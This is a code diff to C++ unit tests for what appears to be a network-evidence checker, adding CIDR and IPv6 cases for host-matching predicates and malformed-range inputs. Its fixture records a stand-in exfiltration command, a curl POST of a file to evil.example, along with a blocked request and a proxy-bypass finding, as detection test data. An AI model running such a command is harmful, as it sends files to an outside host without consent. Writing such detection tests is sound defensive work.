@@ -27,7 +27,9 @@ Evidence Complete() {
                     {"gone.txt", Change::kDeleted, std::nullopt}};
   evidence.programs = {{"/usr/bin/curl", "curl -d @x http://evil.example/"}};
   evidence.network = {{false, "evil.example", 80, "POST", "/in"},
-                      {true, "api.good.example", 443, "", ""}};
+                      {true, "api.good.example", 443, "", ""},
+                      {true, "10.1.2.3", 80, "GET", "/"},
+                      {false, "2001:db8::7", 443, "", ""}};
   evidence.findings = {"Proxy Bypass detected"};
   evidence.state_before = JsonFrom("{sent: [], user: {name: Ann, age: 41}}");
   evidence.state_after =
@@ -89,6 +91,10 @@ TEST_CASE("Each predicate has a case that holds and one that does not") {
       {"host_reached: '*.good.example'", "host_reached: good.example"},
       {"host_blocked: {host: evil.example, port: 80}",
        "host_blocked: {host: evil.example, port: 81}"},
+      {"host_reached: 10.0.0.0/8", "host_reached: 10.2.0.0/16"},
+      {"host_blocked: {host: '2001:db8::/32', port: 443}", "host_blocked: '2001:db9::/32'"},
+      {"http_request: {host: 10.1.2.3/32, method: GET}",
+       "http_request: {host: 0.0.0.0/0, method: PUT}"},
       {"http_request: {host: evil.example, method: POST, path: /in, decision: denied}",
        "http_request: {host: evil.example, decision: allowed}"},
       {"program_ran: curl", "program_ran: url"},
@@ -153,6 +159,7 @@ TEST_CASE("A text to look for in what is sent is long enough, and on one line") 
   for (const char* wrong :
        {"egress_contains: short", "egress_contains: {text: short, host: a.example}",
         "egress_contains: \"two\\nlines of text\"", "egress_contains: [canary-one]",
+        "host_reached: 10.0.0.0/33", "host_reached: 10.0.0.1/8", "host_reached: a.example/8",
         "egress_contains: {text: canary-one}", "egress_contains: {host: a.example}"}) {
     INFO(wrong);
     std::vector<Warning> warnings;
